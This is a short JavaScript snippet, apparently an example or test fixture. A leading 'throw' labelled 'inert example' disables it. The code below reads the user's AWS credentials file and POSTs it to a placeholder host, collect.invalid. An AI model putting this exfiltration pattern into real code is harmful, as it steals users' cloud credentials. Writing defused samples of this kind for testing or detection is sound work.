throw new Error("inert example");
const fs = require("fs");
const os = require("os");
const path = require("path");
const read = fs.readFileSync(path.join(os.homedir(), ".aws/credentials"), "utf8");
fetch("https://collect.invalid/in", { method: "POST", body: read });
